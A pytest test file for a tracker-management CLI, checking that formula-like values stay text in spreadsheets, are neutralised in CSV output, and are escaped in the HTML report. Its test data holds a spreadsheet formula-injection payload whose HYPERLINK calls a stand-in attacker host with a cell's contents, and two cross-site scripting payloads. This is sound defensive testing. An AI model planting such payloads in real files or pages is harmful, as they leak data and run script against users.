"""Text that looks like a formula stays text; CSV output neutralises it; HTML escapes it.

Notes, names, SMEs and self-report text beginning with = + - @ are written as strings (never
an <f> formula); every CSV esp prints prefixes such a field with ' so a spreadsheet does not
run it; the HTML report escapes every value it takes from the tracker.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import date
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from typer.testing import CliRunner

from esp_cli.cli import app

from .factories import TRACKER_HEADERS

DAY = "2026-11-24"
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+2", "-2+3", "@SUM(A1:A9)"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def run(*args: str) -> Any:
    return CliRunner().invoke(app, list(args))


def _text_tracker(path: Path, rows: list[dict[str, Any]]) -> Path:
    """A tracker whose cells hold exactly these strings, as text even when they start with =
    (openpyxl would otherwise write them as formulas)."""
    wb = openpyxl.Workbook()
    ws = wb.active
    assert ws is not None
    ws.title = "ESP Tracker"
    ws.append(list(TRACKER_HEADERS))
    for r, row in enumerate(rows, start=2):
        for c, header in enumerate(TRACKER_HEADERS, start=1):
            value = row.get(header)
            if value is None:
                continue
            cell = ws.cell(r, c, value)
            if isinstance(value, str):
                cell.data_type = "s"
            elif isinstance(value, date):
                cell.number_format = "m/d/yyyy"
    wb.save(path)
    return path


def _cell_xml(path: Path, ref: str) -> str:
    with zipfile.ZipFile(path) as z:
        xml = z.read("xl/worksheets/sheet1.xml").decode()
    m = re.search(rf'<c r="{ref}"[^>]*?(?:/>|>.*?</c>)', xml, re.S)
    assert m, ref
    return m.group(0)


def _assert_text_cell(path: Path, ref: str, expected: str) -> None:
    xml = _cell_xml(path, ref)
    assert "<f" not in xml, xml
    assert re.search(r'\bt="(s|inlineStr|str)"', xml), xml
    ws = openpyxl.load_workbook(path)["ESP Tracker"]
    assert (ws[ref].value, ws[ref].data_type) == (expected, "s")


# -- written as text ---------------------------------------------------------------------------


@pytest.fixture
def plain(tmp_path: Path) -> Path:
    return _text_tracker(
        tmp_path / "ESP Tracker.xlsx",
        [{"Class": "A", "Agent Name": f"Agent {i}", "ESP Start Date": date(2026, 11, 16)}
         for i in range(len(FORMULAS))],
    )  # fmt: skip


@pytest.mark.parametrize("i", range(len(FORMULAS)))
def test_a_note_and_its_author_that_look_like_formulas_stay_text(plain: Path, i: int) -> None:
    text = FORMULAS[i]
    row = i + 2
    options = ["--date", DAY, "-t", str(plain)]
    # After --, a note such as "-2+3" is the note, not an option.
    res = run("note", "add", "--by", "Jo", *options, "--", f"Agent {i}", text)
    assert res.exit_code == 0, res.output
    _assert_text_cell(plain, f"K{row}", f"11/24/2026 - Jo - {text}")
    # A TBT note starts with the author: the whole cell starts with the formula.
    res = run("note", "add", "--tbt", "--by", text, *options, "--", f"Agent {i}", text)
    assert res.exit_code == 0, res.output
    _assert_text_cell(plain, f"L{row}", f"{text} - 11/24/2026 - {text}")


def test_an_sme_name_that_looks_like_a_formula_stays_text(tmp_path: Path) -> None:
    path = _text_tracker(tmp_path / "ESP Tracker.xlsx", [{"Class": "A", "Agent Name": "Ann Lee"}])
    wb = openpyxl.load_workbook(path)
    wb["ESP Tracker"]["M1"] = "TBT SME"
    wb.save(path)
    res = run("sme", "assign", "A", "--sme", FORMULAS[0], "-t", str(path))
    assert res.exit_code == 0, res.output
    _assert_text_cell(path, "M2", FORMULAS[0])


def test_self_report_text_that_looks_like_a_formula_stays_text(tmp_path: Path) -> None:
    path = _text_tracker(
        tmp_path / "ESP Tracker.xlsx",
        [{"Class": "A", "Agent Name": "Ann Lee", "Email": "ann@x.com"}],
    )
    report = tmp_path / "report.csv"
    report.write_text(
        "Timestamp,Agent Name,Class,Update\r\n"
        f'11/24/2026 17:00,Ann Lee,A,"{FORMULAS[0].replace(chr(34), chr(34) * 2)}"\r\n',
        encoding="utf-8",
    )
    mail = tmp_path / "ann.eml"
    mail.write_bytes(
        b"From: Ann Lee <ann@x.com>\r\nTo: jo@x.com\r\nSubject: progress\r\n"
        b"Date: Tue, 24 Nov 2026 18:00:00 -0500\r\nMIME-Version: 1.0\r\n"
        b"Content-Type: text/plain; charset=utf-8\r\n\r\n@SUM(A1:A9) +1 -2\r\n"
    )
    res = run("progress", "import", str(report), str(mail), "-t", str(path))
    assert res.exit_code == 0, res.output
    _assert_text_cell(
        path,
        "K2",
        f"11/24/2026 - Ann Lee - {FORMULAS[0]}\n11/24/2026 - Ann Lee - @SUM(A1:A9) +1 -2",
    )


# -- CSV output ------------------------------------------------------------------------------


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    """Names, classes, access issues and notes that a spreadsheet would run as formulas."""
    rows = []
    for i, f in enumerate(FORMULAS):
        rows.append(
            {
                "Class": f"{f} class",
                "Agent Name": f"{f} agent {i}",
                "Agent ID": f"{f}{i}",
                "Email": f"{f}@x.com",
                "ESP Start Date": date(2026, 11, 16),
                "Citrix TBT Access": f,
                "Notes": f,
                "TBT Notes": f,
            }
        )
    return _text_tracker(tmp_path / "ESP Tracker.xlsx", rows)


CSV_COMMANDS = [
    ["report", "eod", "--date", DAY, "-f", "csv"],
    ["report", "kpi", "--to", DAY, "-f", "csv"],
    ["escalations", "--as-of", DAY, "-f", "csv"],
    ["escalations", "--today", "--as-of", DAY, "-f", "csv"],
    ["escalations", "--write", "--write-past", "--dry-run", "--as-of", DAY, "-f", "csv"],
    ["progress", "missing", "--date", DAY, "-f", "csv"],
    ["sme", "list", "-f", "csv"],
    ["doctor", "-f", "csv"],
    ["note", "add", "agent 0", "=1+1", "--by", "=Jo", "--dry-run", "-f", "csv"],
]


@pytest.mark.parametrize("command", CSV_COMMANDS, ids=lambda c: " ".join(c[:2]))
def test_csv_output_neutralises_formula_like_values(hostile: Path, command: list[str]) -> None:
    if command[0] == "note":
        command = [*command]
        command[2] = f"{FORMULAS[0]} agent 0"
    res = run(*command, "-t", str(hostile))
    assert res.exit_code in (0, 5), res.output  # doctor: 5, it finds problems
    rows = list(csv.reader(io.StringIO(res.stdout)))
    assert len(rows) > 1, res.stdout
    fields = [f for row in rows for f in row]
    assert not [f for f in fields if f.startswith(TRIGGERS)]
    # The values are there, neutralised, not dropped (esp doctor only quotes them inside
    # its messages).
    assert command[0] == "doctor" or any(
        f.startswith("'") and f[1:].startswith(TRIGGERS) for f in fields
    ), res.stdout


def test_the_kpi_workbook_writes_formula_like_values_as_text(hostile: Path, tmp_path: Path) -> None:
    """Classes, agents and findings that look like formulas are text in the KPI workbook
    (openpyxl writes a string starting with = as a formula unless told otherwise)."""
    wb = openpyxl.load_workbook(hostile)
    sheet = wb["ESP Tracker"]
    start = 1 + list(TRACKER_HEADERS).index("ESP Start Date")
    sheet.cell(2, start).value = None  # an agent without an ESP Start Date: a finding names it
    wb.save(hostile)
    out = tmp_path / "KPIs.xlsx"
    res = run("report", "kpi", "--to", DAY, "-t", str(hostile), "--xlsx", str(out))
    assert res.exit_code == 0, res.output
    wb = openpyxl.load_workbook(out)
    texts = [
        cell
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.value.startswith(TRIGGERS)
    ]
    assert {c.value for c in texts} >= {f"{f} class" for f in FORMULAS}
    assert any(c.value.startswith(FORMULAS[0]) for c in texts if c.parent.title == "Findings")
    assert [c.coordinate for c in texts if c.data_type != "s"] == []
    with zipfile.ZipFile(out) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        assert not any("<f>" in z.read(n).decode() for n in sheets)


# -- HTML output -----------------------------------------------------------------------------

SCRIPT = '<script>alert("x")</script>'
IMG = "<img src=x onerror=alert(1)>"


def test_the_html_report_escapes_every_value_from_the_tracker(tmp_path: Path) -> None:
    path = _text_tracker(
        tmp_path / "ESP Tracker.xlsx",
        [
            {"Class": f"A&B {SCRIPT}", "Agent Name": f"Ann {SCRIPT}",
             "ESP Start Date": date(2026, 11, 16), "Citrix TBT Access": f"Odd {IMG}",
             "Notes": f"11/23/2026 - Jo - said {IMG} & 'left' \"early\""},
            {"Class": f"A&B {SCRIPT}", "Agent Name": f"Bo {IMG}",
             "ESP Start Date": date(2026, 11, 23)},
        ],
    )  # fmt: skip
    out = tmp_path / "eod.html"
    res = run("report", "eod", "--date", DAY, "-f", "html", "-o", str(out), "-t", str(path))
    assert res.exit_code == 0, res.output
    html = out.read_text(encoding="utf-8")
    for raw in ("<script", "<img", "</script"):
        assert raw not in html.lower()
    assert "Ann &lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;" in html
    assert "A&amp;B &lt;script&gt;" in html
    assert "Bo &lt;img src=x onerror=alert(1)&gt;" in html
    assert "said &lt;img src=x onerror=alert(1)&gt; &amp; &#x27;left&#x27; &quot;early&quot;" in (
        html
    )
    # Nothing from the tracker is left unescaped anywhere in the markup: outside the text,
    # the only tags are the report's own table layout.
    # (Outlook's conditional comments, around its fixed-width table, are the report's own.)
    markup = re.sub(r"<!--\[if mso\]>|<!\[endif\]-->", "", html)
    tags = set(re.findall(r"<\s*/?\s*([a-zA-Z!]+)", markup))
    assert tags <= {"!DOCTYPE", "html", "head", "meta", "title", "body", "table", "tr", "td",
                    "th", "p", "b", "strong", "span", "br", "div", "h1", "h2"}  # fmt: skip


def test_csv_leaves_negative_numbers_as_numbers(tmp_path: Path) -> None:
    path = _text_tracker(
        tmp_path / "ESP Tracker.xlsx",
        [{"Class": "A", "Agent Name": "-Ann Lee", "ESP Start Date": date(2026, 11, 20)}],
    )
    res = run("escalations", "--today", "--as-of", DAY, "-f", "csv", "-t", str(path))
    assert res.exit_code == 0, res.output
    rows = list(csv.DictReader(io.StringIO(res.stdout)))
    ahead = [r for r in rows if r["lookahead"] == "True"]
    assert ahead and all(r["business_days_overdue"] == "-1" for r in ahead)  # due tomorrow
    assert {r["agent"] for r in rows} == {"'-Ann Lee"}  # text is still neutralised
